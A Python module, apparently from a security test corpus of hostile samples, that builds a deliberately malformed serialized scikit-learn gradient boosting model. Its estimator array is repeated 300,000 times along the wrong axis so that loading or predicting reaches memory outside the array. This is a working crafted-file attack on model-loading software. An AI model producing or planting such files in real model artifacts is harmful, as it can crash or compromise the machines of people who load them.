"""A gradient boosting has more trees in a round than columns to add them to."""

from __future__ import annotations

from typing import Any

import numpy as np
from sklearn.ensemble import GradientBoostingRegressor

from malicious_samples.native_state import dumped, fitted


def model(trees: int = 9) -> Any:
    model = fitted(GradientBoostingRegressor(n_estimators=1, init="zero", random_state=0))
    model.estimators_[0, 0].tree_.value[:] = 1e9
    model.estimators_ = np.repeat(model.estimators_, trees, axis=1)
    return model


def build(canary: str) -> bytes:
    del canary
    # Enough to reach what is not its own.
    return dumped(model(300_000))
